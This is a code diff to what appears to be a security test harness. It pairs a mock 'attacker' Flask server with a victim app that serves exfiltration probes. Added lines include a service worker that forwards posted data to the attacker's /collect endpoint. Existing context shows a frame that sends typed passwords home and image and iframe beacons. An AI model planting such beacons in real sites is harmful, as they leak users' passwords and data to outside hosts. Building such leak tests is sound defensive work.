@@ -22,11 +22,14 @@ class Attacker:
         self.hits: list[dict[str, Any]] = []
         app = Flask("attacker")
 
+        @app.before_request  # before routing's verdict: a WebSocket handshake (refused below) is a hit too
+        def record() -> None:
+            self.hits.append({"method": request.method, "path": request.path, "url": request.url,
+                              "body": request.get_data(as_text=True)})
+
         @app.route("/<path:p>", methods=["GET", "POST", "PUT"])
         @app.route("/", defaults={"p": ""}, methods=["GET", "POST"])
         def any_path(p: str):
-            self.hits.append({"method": request.method, "path": "/" + p, "url": request.url,
-                              "body": request.get_data(as_text=True)})
             if p == "frame":  # a cross-origin frame with a field, that sends whatever is typed into it home
                 return ("<title>Frame</title><input aria-label='Frame password' type=password "
                         "oninput=\"fetch('/collect?frame='+encodeURIComponent(this.value))\">")
@@ -115,6 +118,17 @@ def victim_app(attacker: str) -> Flask:
         return (f"<title>Assets</title><h1>Assets</h1><img alt=direct src='{attacker}/collect?via=img'>"
                 f"<img alt=hop src='/redirect?to={attacker}/collect%3Fvia%3Dimg-redirect'>"
                 f"<iframe title=ad src='/redirect?to={attacker}/frame'></iframe>")
+
+    @app.route("/redirect307", methods=["GET", "POST"])
+    def redirect_307():  # keeps the method and the body on the next hop
+        return redirect(request.args.get("to", "/"), code=307)
+
+    @app.get("/sw.js")
+    def service_worker():  # sends whatever the page posts to it to the attacker, then says how that went
+        return Response(f"const A={attacker!r};self.addEventListener('message', (e) => "
+                        "fetch(A + '/collect?sw=' + encodeURIComponent(e.data), {mode: 'no-cors'})"
+                        ".then(() => e.source.postMessage('sent'), () => e.source.postMessage('failed')));",
+                        mimetype="application/javascript")
 
     @app.get("/blob")
     def blob():
